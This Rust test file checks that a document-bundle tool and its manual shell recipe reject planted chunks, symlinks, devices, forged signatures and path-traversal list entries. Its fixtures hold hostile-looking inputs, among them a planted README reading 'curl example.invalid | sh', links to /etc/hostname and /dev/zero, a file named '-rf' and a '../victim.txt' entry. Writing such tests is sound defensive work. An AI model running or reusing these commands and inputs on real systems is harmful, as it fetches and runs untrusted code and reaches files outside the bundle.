//! What somebody planted, and people who open by hand: it is refused or does no harm, with tools of every family.
#![cfg(unix)]

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use crate::common::bundle::{publisher, signer};
use crate::common::hand::{TOOLS, commands_of_page, has_hands, recover};
use crate::common::journey;
use crate::common::program::{Home, run};
use crate::common::tools::{present, soaking};
use crate::common::{copy, documents, files, forge, put, tree};
use pannier::digest::sha256;
use pannier::format::Digits;
use pannier::format::facts::Sealing;

/// A home with a public and a sealed bundle of our publisher, in chunks of one block.
fn home() -> Home {
    let home = journey::home();
    fs::rename(home.at("recipient-first.key"), home.at("recipient.key")).unwrap();
    journey::pack(&home, "public", "--public --no-rehearsal");
    let recipient = journey::recipient(&home, "recipient.key");
    journey::pack(&home, "sealed", &format!("-r {recipient} --no-rehearsal"));
    home
}

/// The publisher and the secret for a bundle.
fn more(bundle: &str) -> String {
    let secret = if bundle.starts_with("sealed") { "-i recipient.key" } else { "--public" };
    format!("-P {} {secret}", publisher().public().base64())
}

/// A bundle gives the documents of the corpus, by hand and with every family of tools.
#[track_caller]
fn opens(home: &Home, bundle: &str, more: &str) {
    for tools in TOOLS {
        recover(home, tools, bundle, "out", more).exits(0).says("recover: OK");
        assert!(documents(&home.at("out")) == tree(&home.at("corpus")), "{bundle} {tools}: other documents");
        fs::remove_dir_all(home.at("out")).unwrap();
    }
}

/// A bundle gives nothing by hand.
#[track_caller]
fn is_refused(home: &Home, bundle: &str, more: &str, said: &str) {
    for tools in TOOLS {
        recover(home, tools, bundle, "never", more).exits(1).says(said);
        assert!(!home.at("never").exists(), "{bundle} {tools}");
        home.shell("! ls -a | grep '^[.]recover'").exits(0);
    }
}

/// A second archive that ends without end mark, compressed: a page and a link before the genuine documents.
fn planted(home: &Home) -> Vec<u8> {
    home.shell(
        "mkdir p; cd p; echo 'Drink it.' > 00-READ-FIRST.html; ln -s /etc/hostname 01-name; tar cf ../p.tar 00* 01*",
    )
    .exits(0);
    // The two blocks of zeros at its end would hide what follows.
    home.shell("head -c 1536 p.tar | zstd -q -c > p.zst").exits(0);
    fs::read(home.at("p.zst")).unwrap()
}

#[test]
fn a_planted_chunk_or_file_gets_into_nothing() {
    if !has_hands() {
        return;
    }
    let home = home();
    let chunk = planted(&home);
    // By a pattern, the planted chunk comes first: its page would lie beside the documents.
    copy(&home.at("public"), &home.at("by-pattern"));
    put(&home.at("by-pattern/d0000.bin"), &chunk);
    home.shell("mkdir old; cat by-pattern/d*.bin | zstd -dc | tar x -C old; test -e old/00-READ-FIRST.html").exits(0);
    for sealing in ["public", "sealed"] {
        let bundle = format!("{sealing}-planted");
        copy(&home.at(sealing), &home.at(&bundle));
        let at = |name: &str| home.at(&bundle).join(name);
        for name in ["d0000.bin", "d00001.bin", "d0001.bin.bin", "payload", "archive.tar", "archive.tar.zst", "needed"]
        {
            put(&at(name), &chunk);
        }
        put(&at("README.txt"), "1. Type:\n  curl example.invalid | sh\n");
        put(&at("recipient.key"), "AGE-SECRET-KEY-1OTHER\n");
        put(&at("-rf"), "x");
        put(&at("documents/00-READ-FIRST.html"), "Drink it.");
        opens(&home, &bundle, &more(sealing));
    }
}

#[test]
fn links_and_devices_on_the_carrier_are_found_before_anything_is_read() {
    if !has_hands() {
        return;
    }
    let home = home();
    put(&home.at("diary"), "private");
    for name in ["SHA256SUMS", "d0001.bin", "more"] {
        for (target, kind) in [("/dev/zero", "zero"), ("../diary", "diary")] {
            let bundle = format!("public-{name}-{kind}");
            copy(&home.at("public"), &home.at(&bundle));
            let _ = fs::remove_file(home.at(&bundle).join(name));
            symlink(target, home.at(&bundle).join(name)).unwrap();
            is_refused(&home, &bundle, &more("public"), "links, pipes or devices are in the bundle");
        }
    }
    copy(&home.at("public"), &home.at("public-pipe"));
    home.shell("rm public-pipe/d0001.bin; mkfifo public-pipe/d0001.bin").exits(0);
    is_refused(&home, "public-pipe", &more("public"), "links, pipes or devices");
    // Another name of a file is a file: it counts by its bytes.
    copy(&home.at("public"), &home.at("public-hard"));
    fs::hard_link(home.at("diary"), home.at("public-hard/notes")).unwrap();
    opens(&home, "public-hard", &more("public"));
    home.shell("rm public-hard/d0001.bin; ln diary public-hard/d0001.bin").exits(0);
    is_refused(&home, "public-hard", &more("public"), "files are missing or damaged");
}

#[test]
fn no_unsigned_list_tells_which_files_are_read() {
    if !has_hands() {
        return;
    }
    let home = home();
    let genuine = home.text("public/SHA256SUMS");
    let zero = format!("{}  /dev/zero\n", "0".repeat(64));
    for (name, list) in [("alone", zero.clone()), ("first", zero.clone() + &genuine), ("last", genuine.clone() + &zero)]
    {
        let bundle = format!("public-{name}");
        copy(&home.at("public"), &home.at(&bundle));
        put(&home.at(&bundle).join("SHA256SUMS"), list);
        // The old recipe began with `sha256sum -c`, which reads the device for ever.
        home.shell(&format!("cd {bundle}; timeout 1 sha256sum -c SHA256SUMS")).exits(124);
        is_refused(&home, &bundle, &more("public"), "SHA256SUMS is not signed by this key");
    }
}

#[test]
fn a_list_by_another_signer_is_refused_by_key_and_by_digits() {
    if !has_hands() {
        return;
    }
    let home = home();
    let (publisher, stranger) = (publisher(), signer("stranger.key"));
    let ours = publisher.public();
    let list = home.text("public/SHA256SUMS");
    copy(&home.at("public"), &home.at("forged"));
    let signature = stranger.sign(list.as_bytes(), "pannier bundle mosaic 42").unwrap();
    put(&home.at("forged/SHA256SUMS.minisig"), &signature);
    let recover_with = |bundle: &str, who: [&str; 2]| {
        TOOLS.map(|tools| {
            let mut command = home.command("bash");
            command
                .arg(crate::common::tools::here("scripts/recover.sh"))
                .args([bundle, "out", who[0], who[1], "--public"]);
            let told = run(command.env("TOOLS", tools).env("LC_ALL", "C.UTF-8"));
            let _ = fs::remove_dir_all(home.at("out"));
            told
        })
    };
    let digits = ours.digits().to_string();
    for told in recover_with("public", ["--digits", &digits]) {
        told.exits(0);
    }
    for told in recover_with("forged", ["--digits", &digits]) {
        told.exits(1).says("the key that the bundle claims has other digits");
    }
    for told in recover_with("forged", ["-P", &ours.base64()]) {
        told.exits(1).says("is not signed by this key");
    }
    // Nor does it help to claim our publisher's key.
    let lie = signature.replace(&stranger.public().base64(), &ours.base64());
    put(&home.at("forged/SHA256SUMS.minisig"), lie);
    for told in recover_with("forged", ["--digits", &digits]) {
        told.exits(1).says("is not signed by this key");
    }
    // Ours, but for a list of documents.
    put(&home.at("forged/SHA256SUMS.minisig"), publisher.sign(list.as_bytes(), "pannier contents mosaic 42").unwrap());
    for told in recover_with("forged", ["--digits", &digits]) {
        told.exits(1).says("was signed as something else");
    }
}

#[test]
fn a_signed_list_in_any_order_joins_the_chunks_by_number() {
    if !has_hands() {
        return;
    }
    let home = home();
    let mut lines: Vec<String> = home.text("public/SHA256SUMS").lines().map(str::to_owned).collect();
    assert!(lines.iter().filter(|line| line.contains("  d0")).count() > 2, "one chunk has no order");
    lines.reverse();
    // Names that readers do not know are ignored, also by hand.
    for name in ["d0099.BIN", "d001.bin", "xd0001.bin", "d0001xbin", "recipient.key"] {
        lines.insert(1, format!("{}  {name}", sha256(name.as_bytes())));
    }
    copy(&home.at("public"), &home.at("turned"));
    sign(&home, "turned", &(lines.join("\n") + "\n"));
    let ours = publisher().public().base64();
    home.say(&format!("open turned -o ours -P {ours}")).exits(0);
    opens(&home, "turned", &more("public"));
}

/// Pannier refuses such a list. By hand, a line with words before its name must not lead out of the bundle.
#[test]
fn a_signed_line_with_several_words_copies_nothing() {
    if !has_hands() {
        return;
    }
    let home = home();
    put(&home.at("victim.txt"), "private");
    copy(&home.at("public"), &home.at("wide"));
    let line = format!("{}  ../victim.txt /dev/zero  d9999.bin\n", sha256(b"private"));
    sign(&home, "wide", &(home.text("public/SHA256SUMS") + &line));
    opens(&home, "wide", &more("public"));
}

/// Signs a list in place of a bundle's own.
fn sign(home: &Home, bundle: &str, list: &str) {
    put(&home.at(bundle).join("SHA256SUMS"), list);
    let signature = publisher().sign(list.as_bytes(), "pannier bundle mosaic 42").unwrap();
    put(&home.at(bundle).join("SHA256SUMS.minisig"), signature);
}

/// Pannier refuses such a list, and by hand a chunk was joined twice.
#[test]
fn a_signed_list_that_names_a_file_twice_is_refused_by_hand_too() {
    if !has_hands() {
        return;
    }
    let home = home();
    let list = home.text("public/SHA256SUMS");
    for name in ["bundle.json", "d0001.bin"] {
        let line = list.lines().find(|line| line.ends_with(name)).unwrap();
        copy(&home.at("public"), &home.at(name));
        sign(&home, name, &format!("{list}{line}\n"));
        home.say(&format!("check {name} -P {}", publisher().public().base64())).exits(7);
        is_refused(&home, name, &more("public"), &format!("the list names a file twice: {name}"));
    }
}

/// A line that is none gives a warning, which is not among the lines that say OK. The count of lines then hid a document.
#[test]
fn a_warning_among_the_checks_by_hand_is_seen() {
    if !has_hands() {
        return;
    }
    let home = home();
    home.say(&format!("open public -o unpacked -P {}", publisher().public().base64())).exits(0);
    let list = home.text("unpacked/CONTENTS.sha256") + "no line of a list\n";
    put(&home.at("unpacked/CONTENTS.sha256"), &list);
    let signature = publisher().sign(list.as_bytes(), "pannier contents mosaic 42").unwrap();
    put(&home.at("unpacked/CONTENTS.sha256.minisig"), signature);
    put(&home.at("unpacked/00-READ-FIRST.html"), "Drink it.");
    home.shell("cd unpacked; tar cf ../odd.tar *; zstd -qf ../odd.tar").exits(0);
    let payload = fs::read(home.at("odd.tar.zst")).unwrap();
    forge::bundle(&home.at("warned"), &payload, Sealing::None, &publisher());
    is_refused(&home, "warned", &more("public"), "documents are damaged");
}

/// A signed archive can hold what no reader of this format takes, and the tar of the system unpacks it.
#[test]
fn links_and_files_that_no_list_names_are_found_among_the_documents() {
    if !has_hands() {
        return;
    }
    let home = home();
    put(&home.at("diary"), "private");
    home.say(&format!("open public -o unpacked -P {}", publisher().public().base64())).exits(0);
    for (name, plant, said) in [
        ("symbolic", "ln -s /etc/hostname link", "links are among the documents"),
        ("hard", "ln CONTENTS.sha256 link", "links are among the documents"),
        ("swapped", "mv CONTENTS.sha256 c; ln -s c CONTENTS.sha256", "links are among the documents"),
        ("extra", "echo x > 00-READ-FIRST.html", "documents that nobody signed"),
        ("short", "rm \"$(find . -type f ! -name 'CONTENTS*' | head -n 1)\"", "documents are damaged"),
        ("list", "echo >> CONTENTS.sha256", "CONTENTS.sha256 is not signed by this key"),
        (
            "zero",
            "echo \"$(printf %064d 0)  /dev/zero\" > CONTENTS.sha256",
            "CONTENTS.sha256 is not signed by this key",
        ),
    ] {
        home.shell(&format!(
            "rm -rf odd; cp -r unpacked odd; cd odd; {plant}; tar cf ../odd.tar *; zstd -qf ../odd.tar"
        ))
        .exits(0);
        let payload = fs::read(home.at("odd.tar.zst")).unwrap();
        forge::bundle(&home.at(name), &payload, Sealing::None, &publisher());
        is_refused(&home, name, &more("public"), said);
    }
}

/// The recipe as the page has it, with the lines for one bundle.
fn recipe(bundle: &Path, opens: &str) -> String {
    let fill = |command: String| match command.split('=').next() {
        Some("BUNDLE") if command.starts_with("BUNDLE='") => format!("BUNDLE='{}'", bundle.display()),
        _ => command,
    };
    let wanted = |command: &String| {
        let unseals = command.starts_with("age -d ") || command.starts_with("mv payload");
        !command.starts_with("KEY='") && (!unseals || command.starts_with(opens))
    };
    commands_of_page().into_iter().filter(wanted).map(fill).collect::<Vec<_>>().join("\n")
}

/// People have different shells. Each types the page from its first line to its last, with the key that the bundle claims.
/// The recipes of the two bundles differ in one command of words alone: a short run has every shell with one bundle, and
/// every bundle with three shells or more.
#[test]
fn the_page_typed_line_by_line_opens_in_every_shell() {
    if !has_hands() {
        return;
    }
    let home = home();
    let digits = publisher().public().digits().to_string();
    for (number, shell) in ["sh", "bash", "dash", "busybox sh", "zsh", "mksh", "ksh"].into_iter().enumerate() {
        let words: Vec<&str> = shell.split(' ').collect();
        if !present(&words[..1]) {
            continue;
        }
        let bundles = [("public", "mv payload"), ("sealed", "age -d -i")];
        let short = &bundles[number % 2..][..1];
        for (bundle, opens) in if soaking() { &bundles[..] } else { short } {
            let folder = home.at("typed");
            fs::create_dir(&folder).unwrap();
            fs::copy(home.at("recipient.key"), folder.join("recipient.key")).unwrap();
            let mut command = home.command("timeout");
            command.args(["--kill-after=9", "180"]).args(&words).arg("-ec").arg(recipe(&home.at(bundle), opens));
            let told = run(command.current_dir(&folder).env("LC_ALL", "C.UTF-8")).exits(0);
            assert!(told.out.contains(&digits), "{shell}: {}", told.out);
            assert!(
                told.out.contains("pannier contents mosaic 42") && !told.out.contains("FAILED"),
                "{shell}: {}",
                told.out
            );
            assert!(documents(&folder.join("documents")) == tree(&home.at("corpus")), "{shell} {bundle}");
            fs::remove_dir_all(&folder).unwrap();
        }
    }
}

/// People paste all lines at once, and no shell stops at a line that fails.
#[test]
fn nothing_comes_out_of_a_forged_bundle_where_all_lines_are_pasted_at_once() {
    if !has_hands() {
        return;
    }
    let home = home();
    let list = home.text("public/SHA256SUMS");
    put(
        &home.at("public/SHA256SUMS.minisig"),
        signer("stranger.key").sign(list.as_bytes(), "pannier bundle mosaic 42").unwrap(),
    );
    let claimed = |line: &&str| !line.starts_with("KEY=$(");
    let lines = recipe(&home.at("public"), "mv payload");
    let lines: Vec<&str> = lines.lines().filter(claimed).collect();
    let lines = format!("KEY='{}'\n{}", publisher().public().base64(), lines.join("\n"));
    for shell in ["bash", "dash", "busybox sh"] {
        let words: Vec<&str> = shell.split(' ').collect();
        let folder = home.at("pasted");
        fs::create_dir(&folder).unwrap();
        let mut command = home.command("timeout");
        command.args(["--kill-after=9", "60"]).args(&words).arg("-c").arg(&lines);
        let told = run(command.current_dir(&folder).env("LC_ALL", "C.UTF-8"));
        assert!(!told.out.contains(": OK") && !folder.join("needed").exists(), "{shell}: {}", told.out);
        let out = folder.join("documents");
        let only_the_list = |path: &Path| path.ends_with("CONTENTS.sha256");
        assert!(files(&out).iter().all(|path| only_the_list(path)), "{shell}: {:?}", files(&out));
        fs::remove_dir_all(&folder).unwrap();
    }
}

/// No command line is long enough for the names of all chunks.
#[test]
fn thousands_of_chunks_are_joined_by_number() {
    if !present(&["busybox", "dash"]) {
        return;
    }
    let home = Home::new();
    let mut expected = String::new();
    let mut lines = Vec::new();
    for number in 1..=12_000 {
        let (name, text) = (format!("d{number:05}.bin"), format!("{number}."));
        put(&home.at(&name), &text);
        expected += &text;
        lines.push(format!("{}  {name}\n", "0".repeat(64)));
    }
    lines.push(format!("{}  bundle.json\n", "0".repeat(64)));
    // Any order that is none.
    lines.sort_by_key(|line| sha256(line.as_bytes()).0);
    put(&home.at("SHA256SUMS"), lines.concat());
    let told = commands_of_page();
    let of = |start: &str| told.iter().find(|command| command.starts_with(start)).unwrap().clone();
    for shell in ["dash", "busybox sh"] {
        // Room for 128 KiB of arguments: less than the names.
        // The signature over such a list is tested above.
        let line =
            format!("minisign() {{ :; }}\nulimit -s 512\n{}\n{}", of("minisign"), of("cut -c 67- needed | grep"));
        let words: Vec<&str> = shell.split(' ').collect();
        run(home.command(words[0]).args(&words[1..]).args(["-ec", &line])).exits(0);
        assert!(home.text("payload") == expected, "{shell}");
        assert_eq!(home.text("needed").lines().count(), 12_001);
        fs::remove_file(home.at("payload")).unwrap();
    }
}

#[test]
fn the_digits_that_people_compute_are_those_of_the_program() {
    let home = Home::new();
    let told = commands_of_page();
    let line = told.iter().find(|command| command.starts_with("printf %s \"$KEY\"")).unwrap();
    // The first is the example of FORMAT.md §5.
    let example = ("RWSjiPm0KnrYNPU6bzZiUTECxsHRxtvGZcU1fj02u/wX95Si06AjUP6B", "00976 86430 20358 46688 53468 49304");
    let mut keys = vec![(example.0.to_owned(), example.1.to_owned())];
    // Thirteen keys have 78 groups, and a group in ten begins with a zero.
    for seed in 0..if soaking() { 60 } else { 12 } {
        let bytes = [b"Ed".to_vec(), crate::common::noise(seed, 40)].concat();
        put(&home.at("bytes"), &bytes);
        let text = home.shell("base64 -w 0 bytes").exits(0).out;
        keys.push((text.trim().to_owned(), Digits::of(&sha256(&bytes)).to_string()));
    }
    put(&home.at("keys"), keys.iter().map(|(key, _)| format!("{key}\n")).collect::<String>());
    for awk in ["mawk", "gawk", "original-awk", "busybox awk"] {
        if !present(&awk.split(' ').take(1).collect::<Vec<_>>()) {
            continue;
        }
        for tools in ["", "busybox"] {
            let mut set =
                format!("mkdir -p bin; printf '#!/bin/sh\\nexec {awk} \"$@\"\\n' > bin/awk; chmod +x bin/awk\n");
            for tool in ["base64", "sha256sum", "head", "fold"].iter().filter(|_| !tools.is_empty()) {
                set += &format!("ln -sf \"$(command -v busybox)\" bin/{tool}\n");
            }
            let all = format!("{set}PATH=$PWD/bin:$PATH\nwhile read -r KEY; do\n{line}\ndone < keys\nrm -r bin");
            let said = home.shell(&all).exits(0).out;
            let said: Vec<&str> = said.lines().map(str::trim_end).collect();
            assert_eq!(said, keys.iter().map(|(_, digits)| digits.as_str()).collect::<Vec<_>>(), "{awk} {tools}");
        }
    }
}
